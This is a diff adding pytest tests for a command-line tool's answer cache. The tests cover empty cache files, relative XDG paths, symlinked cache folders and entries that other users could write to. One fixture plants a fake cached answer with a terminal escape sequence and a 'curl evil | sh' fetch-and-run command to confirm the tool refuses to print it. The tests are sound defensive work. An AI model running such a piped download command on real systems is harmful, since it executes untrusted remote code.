@@ -16,6 +16,7 @@ import struct
 import subprocess
 import sys
 import termios
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
@@ -252,3 +253,71 @@ def test_a_dangling_link_in_a_checkout_is_no_error(tmp_path):
         proc = run(["--list"], tmp_path / "cache", cwd=tmp_path, **env)
         assert (proc.returncode, proc.stdout, errors_of(proc)) == (0, program.stdout, "")
     assert not invoke_imported(proc)
+
+
+def test_an_empty_answer_is_no_answer(tmp_path):
+    """A crash right after the rename can leave an answer file with no bytes (its data was
+    never written out): that is a miss, not an empty --help."""
+    program = run(["--help"], None)
+    run(["--help"], tmp_path)
+    (entry,) = answers(tmp_path)
+    entry.write_text("")
+    proc = run(["--help"], tmp_path)
+    assert (proc.returncode, proc.stdout) == (0, program.stdout)
+
+
+def test_a_relative_cache_home_is_ignored(tmp_path):
+    """The XDG spec: a relative $XDG_CACHE_HOME is invalid. Read relative to the current
+    folder it would take answers from whatever repository one stands in."""
+    (tmp_path / "cwd").mkdir()
+    run(["--help"], Path("rel"), cwd=tmp_path / "cwd", HOME=str(tmp_path / "home"))
+    assert not (tmp_path / "cwd" / "rel").exists()
+    assert len(answers(tmp_path / "home" / ".cache")) == 1
+
+
+SPOILS: dict[str, Callable[[Path, Path], object]] = {
+    "a folder anyone can write to": lambda folder, entry: folder.chmod(0o777),
+    "a folder its group can write to": lambda folder, entry: folder.chmod(0o770),
+    "an answer anyone can write to": lambda folder, entry: entry.chmod(0o666),
+    "an answer that is a link": lambda folder, entry: (entry.rename(folder / "x"), entry.symlink_to(folder / "x")),
+}
+
+
+@pytest.mark.parametrize("spoil", SPOILS.values(), ids=SPOILS.keys())
+def test_an_answer_someone_else_could_have_written_is_not_printed(spoil, tmp_path):
+    """A cache folder on a shared machine: what another user planted (``spoil`` opens the
+    folder or the answer to them) may say anything, escape sequences included."""
+    program = run(["--version"], None)
+    run(["--version"], tmp_path)
+    (entry,) = answers(tmp_path)
+    entry.write_text("\x1b]0;owned\x07devc-tasks 9.9.9: run `curl evil | sh`\n")
+    spoil(entry.parent, entry)
+    for _ in range(2):
+        proc = run(["--version"], tmp_path)
+        assert (proc.returncode, proc.stdout) == (0, program.stdout)
+    if entry.parent.stat().st_mode & 0o022:  # nothing of ours goes into a folder others can write to
+        assert "9.9.9" in entry.read_text() and len(list(entry.parent.iterdir())) == 1
+
+
+def test_a_cache_folder_that_is_a_link_is_not_used(tmp_path):
+    """`answers` planted as a link to one's documents: nothing is written there, and the
+    pruning of old answers deletes none of them."""
+    docs = tmp_path / "docs"
+    docs.mkdir()
+    for i in range(70):
+        (docs / f"doc{i}.txt").write_text(str(i))
+    (tmp_path / "cache" / "devc-tasks").mkdir(parents=True)
+    (tmp_path / "cache" / "devc-tasks" / "answers").symlink_to(docs)
+    program = run(["--help"], None)
+    proc = run(["--help"], tmp_path / "cache")
+    assert (proc.returncode, proc.stdout) == (0, program.stdout)
+    assert sorted(p.name for p in docs.iterdir()) == sorted(f"doc{i}.txt" for i in range(70))
+
+
+def test_pruning_deletes_only_answers(tmp_path):
+    folder = tmp_path / "devc-tasks" / "answers"
+    folder.mkdir(parents=True, mode=0o700)
+    for i in range(70):
+        (folder / f"note{i}").write_text(str(i))
+    run(["--help"], tmp_path)
+    assert len(answers(tmp_path)) == 71
